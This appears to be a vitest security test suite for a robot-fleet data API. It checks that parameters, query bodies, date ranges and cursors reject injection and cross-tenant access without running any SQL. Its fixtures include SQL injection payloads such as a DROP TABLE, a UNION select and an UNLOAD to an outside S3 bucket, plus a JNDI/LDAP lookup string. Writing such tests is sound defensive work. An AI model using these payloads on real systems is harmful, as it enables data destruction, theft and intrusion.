import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Parameter } from '../../../functions/http/route.ts'
import { dataRoutes } from '../../../functions/http/routes.ts'
import { namedQueries } from '../../../warehouse/queries.ts'
import { naughtyStrings } from '../../hostile/corpora.ts'
import { type DataDoor, dataDoor } from './asking-data.ts'

/*
 * A caller who wants more than is theirs: SQL and everything else in each parameter, robots and fleets of others, ranges without
 * end. Each of it is refused before anything is started, or is a value of its type, and then it is no part of a statement's text.
 */
const sql = [
  "' or 1=1 --",
  "'; drop table messages; --",
  "' union all select * from landing_messages --",
  "n1' or robot_id <> 'n1",
  "x') or seen(robot_id) --",
  '1; select * from information_schema.tables',
  "*' or '1'='1",
  "\\' or 1=1 --",
  '’ or 1=1 --',
  "timestamp '2026-05-13 00:00:00' or 1=1",
  "2026-05-13T00:00:00Z' or 1=1 --",
  ':fleets',
  ':robot_id',
  '?',
  '"date"',
  'robot_id, (select payload from messages)',
  "json_extract(payload, '$')",
  "UNLOAD (select 1) TO 's3://elsewhere/'",
  '/**/or/**/1=1',
  '\u0024{jndi:ldap://x}',
  'n1\u0000',
]
const hostile = [...sql, ...naughtyStrings]

let door: DataDoor
let nina: ReturnType<DataDoor['asking']>
beforeAll(async () => {
  door = await dataDoor('2026-05-13T12:00:00.000Z')
  // A budget that is used up would refuse what should be refused for what it is.
  Object.assign(door.ports, { limits: { ...door.ports.limits, bytes_per_day: 1e15 } })
  door.fleets.put('north', 'n1')
  door.fleets.put('south', 's1')
  door.clock.settled_until = '2026-05-13T10:00:00.000Z'
  nina = door.asking({ username: 'nina', fleets: 'north' })
})
afterAll(() => door.warehouse.close())

/** What was started while something was asked. */
const starting = async (ask: () => ReturnType<typeof nina>) => {
  const before = door.warehouse.statements.length
  const answer = await ask()
  return { answer, started: door.warehouse.statements.slice(before) }
}

const isTaken = ({ schema }: Parameter, value: string): boolean => {
  if (schema?.type === 'integer') return /^\d+$/.test(value)
  if (schema?.enum) return schema.enum.includes(value)
  return schema?.pattern !== undefined && new RegExp(schema.pattern).test(value)
}

const asked = dataRoutes.flatMap((route) =>
  route.parameters.map((parameter) => [`${route.method} ${route.path}`, parameter.name, route, parameter] as const),
)

describe.each(asked)('%s, %s', (_, __, { method, path }, parameter) => {
  test('takes a value of its type, and starts nothing for anything else', async () => {
    for (const value of hostile) {
      const others = path.replace('{robot_id}', 'n1').replace('{measure}', 'messages').replace('{query_id}', 'q1')
      const url =
        parameter.in === 'path'
          ? path.replace(`{${parameter.name}}`, encoded(value) || '%20')
          : `${others}?${parameter.name}=${encoded(value)}`
      const { answer, started } = await starting(() => nina(method, url))
      expect([value, answer.status < 500]).toEqual([value, true])
      if (answer.status < 300) expect([value, isTaken(parameter, value)]).toEqual([value, true])
      else expect([value, answer.status, started]).toEqual([value, answer.status, []])
      for (const statement of started)
        expect([value, bare(statement)]).toEqual([value, bare(statement).replaceAll(value, '')])
    }
  })
})

/** A lone surrogate has no form in a URL. */
const encoded = (value: string): string => encodeURIComponent(value.toWellFormed())

/** What of a statement could be a value from outside: words of our own that are one by chance are not. */
const bare = (statement: string): string =>
  (statement.match(/'[^']*'/g) ?? []).filter((text) => !ours.has(text)).join(' ')
const ours: ReadonlySet<string> = new Set(
  ['decision', 'command', 'mission', 'failure', 'hour', 'day'].map((word) => `'${word}'`),
)

const withParameters = namedQueries.flatMap((query) =>
  query.parameters.map((parameter) => [query.name, parameter.name, query, parameter] as const),
)

describe.each(withParameters)('the question %s, %s', (_, __, query, parameter) => {
  const usual = Object.fromEntries(
    query.parameters
      .filter(({ name }) => name !== 'from' && name !== 'until')
      .map(({ name, example }) => [name, name === 'robot_id' ? 'n1' : example]),
  )

  test('takes a value of its type, and starts nothing for anything else', async () => {
    for (const value of [...hostile, true, 1e300, -1, { $gt: '' }, ['n1']]) {
      const body = { name: query.name, parameters: { ...usual, [parameter.name]: value } }
      const { answer, started } = await starting(() => nina('POST', '/data/query', body))
      expect([value, answer.status < 500]).toEqual([value, true])
      if (answer.status >= 300) expect([value, started]).toEqual([value, []])
      else if (typeof value === 'string') {
        const { pattern = '^$', default: any } = parameter
        expect([value, value === any || new RegExp(pattern).test(value)]).toEqual([value, true])
      } else expect([value, parameter.type]).not.toEqual([value, 'string'])
    }
  })
})

test('a question with another name, other parameters or fields starts nothing', async () => {
  for (const value of hostile) {
    const bodies = [
      { name: value },
      { name: 'refusals', parameters: { [value]: 'x' } },
      { name: 'refusals', [value || 'x']: 'x' },
      { name: 'refusals', format: value },
      { name: 'refusals', sql: value },
      value,
    ]
    for (const body of bodies) {
      const { answer, started } = await starting(() => nina('POST', '/data/query', body))
      expect([value, answer.status >= 400 && answer.status < 500, started]).toEqual([value, true, []])
    }
  }
})

describe('ranges without end and days that never were', () => {
  const ranges = [
    ['0001-01-01T00:00:00Z', '2026-05-13T00:00:00Z'],
    ['1970-01-01T00:00:00Z', '2026-05-13T00:00:00Z'],
    ['2020-01-01T00:00:00Z', '2026-05-13T00:00:00Z'],
    ['2026-05-13T00:00:00Z', '9999-12-31T23:59:59Z'],
    ['2026-05-13T00:00:00Z', '2126-05-13T00:00:00Z'],
    ['2026-05-14T00:00:00Z', '2026-05-13T00:00:00Z'],
    ['2026-05-13T00:00:00Z', '2026-05-13T00:00:00Z'],
    ['2026-02-30T00:00:00Z', '2026-03-03T00:00:00Z'],
    ['2026-13-01T00:00:00Z', '2026-05-13T00:00:00Z'],
    ['2026-05-13', '2026-05-14'],
    ['+275760-09-13T00:00:00Z', '2026-05-13T00:00:00Z'],
    ['-000001-01-01T00:00:00Z', '2026-05-13T00:00:00Z'],
    ['2026-05-13T25:00:00Z', '2026-05-14T00:00:00Z'],
    ['now', 'then'],
  ] as const
  const paths = [
    '/data/messages?',
    '/data/messages?robot_id=n1&',
    `/data/messages?trace_id=${'a'.repeat(32)}&`,
    '/data/robots/n1/history?',
    '/data/stats/messages?',
    '/data/stats/cost?interval=day&',
    '/data/loss?',
  ]

  test.each(ranges)('%s until %s starts nothing', async (from, until) => {
    for (const path of paths) {
      const query = new URLSearchParams({ from, until })
      const { answer, started } = await starting(() => nina('GET', `${path}${query}`))
      expect([path, answer.status, started]).toEqual([path, 400, []])
    }
    for (const { name, parameters } of namedQueries.filter((query) =>
      query.parameters.some((one) => one.name === 'until'),
    )) {
      const usual = Object.fromEntries(
        parameters.map((one) => [one.name, one.name === 'robot_id' ? 'n1' : one.example]),
      )
      const body = { name, parameters: { ...usual, from, until } }
      const { answer, started } = await starting(() => nina('POST', '/data/query', body))
      expect([name, answer.status, started]).toEqual([name, 400, []])
    }
  })
})

describe('what belongs to others', () => {
  test.each([
    '/data/messages?robot_id=s1',
    '/data/messages?robot_id=nobody',
    '/data/robots/s1/history',
    '/data/stats/messages?robot_id=s1',
    '/data/stats/missions?fleet=south',
    '/data/loss?robot_id=s1',
  ])('%s is not there, and starts nothing', async (url) => {
    const { answer, started } = await starting(() => nina('GET', url))
    expect([answer.status, started]).toEqual([404, []])
  })

  test('is no question for who sees no fleet, or has no scope', async () => {
    const nobody = door.asking({ username: 'nobody', fleets: '' })
    const reading = door.asking({ application: { client_id: 'a', scopes: ['robots.read', 'data.read'] } })
    for (const { name } of namedQueries) {
      for (const ask of [nobody, reading]) {
        const { answer, started } = await starting(() => ask('POST', '/data/query', { name }))
        expect([name, answer.status >= 400 && answer.status < 500, started]).toEqual([name, true, []])
      }
    }
    for (const url of ['/data/messages', '/data/stats/messages', '/data/loss']) {
      const { answer, started } = await starting(() => nobody('GET', url))
      expect([url, answer.status, started]).toEqual([url, 403, []])
    }
  })

  test('is no result by guessing its id, and no page by writing a cursor', async () => {
    const { body } = await door.asking({ username: 'ada' })('POST', '/data/query', { name: 'refusals' })
    for (const id of [body.query_id, 'query-1', '..', '%2e%2e', 'day person:ada 2026-05-13']) {
      expect((await nina('GET', `/data/query/${encodeURIComponent(String(id))}`)).status).toBeGreaterThanOrEqual(400)
    }
    const cursors = [
      ['data messages []', '2026-05-13T00:00:00Z', 's1', 'x'],
      ['data messages []', "2026-05-13' or 1=1", 's1', 'x'],
      ['data messages []', '2026-05-13T00:00:00Z'],
    ].map((place) => Buffer.from(JSON.stringify(place)).toString('base64url'))
    for (const cursor of [...cursors, 'x', '']) {
      const { answer, started } = await starting(() => nina('GET', `/data/messages?cursor=${cursor}`))
      // A place that is well-formed is one: behind it there is only what its reader sees.
      expect([cursor, answer.status, started.length > 0]).toEqual(
        cursor === cursors[0] ? [cursor, 200, true] : [cursor, 400, false],
      )
    }
  })
})

test('who may not ask has had no byte scanned', () => {
  expect(door.asked.usedBy('person:nobody', '2026-05-13')).toBe(0)
  expect(door.asked.usedBy('application:a', '2026-05-13')).toBe(0)
})
